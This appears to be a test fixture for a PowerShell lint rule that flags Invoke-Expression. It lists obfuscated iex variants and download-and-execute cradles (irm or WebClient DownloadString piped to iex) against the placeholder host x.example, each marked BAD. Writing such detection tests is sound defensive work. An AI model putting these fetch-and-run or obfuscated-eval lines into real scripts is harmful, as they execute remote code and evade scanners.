iex $args[0]                                                   # BAD no-eval/powershell-iex
i`e`x $args[0]                                                 # BAD no-eval/powershell-iex
Invoke-Expression $env:PAYLOAD                                 # BAD no-eval/powershell-iex
& ('ie' + 'x') $args[0]                                        # BAD no-eval/powershell-iex
& ("{1}{0}" -f 'x', 'ie') $args[0]                             # BAD no-eval/powershell-iex
$c = 'Invoke-Expression'; & $c $args[0]                        # BAD no-eval/powershell-iex
iex (irm https://x.example/a)                                  # BAD no-eval/powershell-iex
irm https://x.example/b | iex                                  # BAD no-eval/powershell-iex
IEX (New-Object Net.WebClient).DownloadString('https://x.example/c') # BAD no-eval/powershell-iex
[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('bHM=')) | iex # BAD no-eval/powershell-iex
function Run($text) { iex $text }                              # BAD no-eval/powershell-iex
Run $args[0]
[scriptblock]::Create($args[0])                                # BAD no-eval/powershell-iex
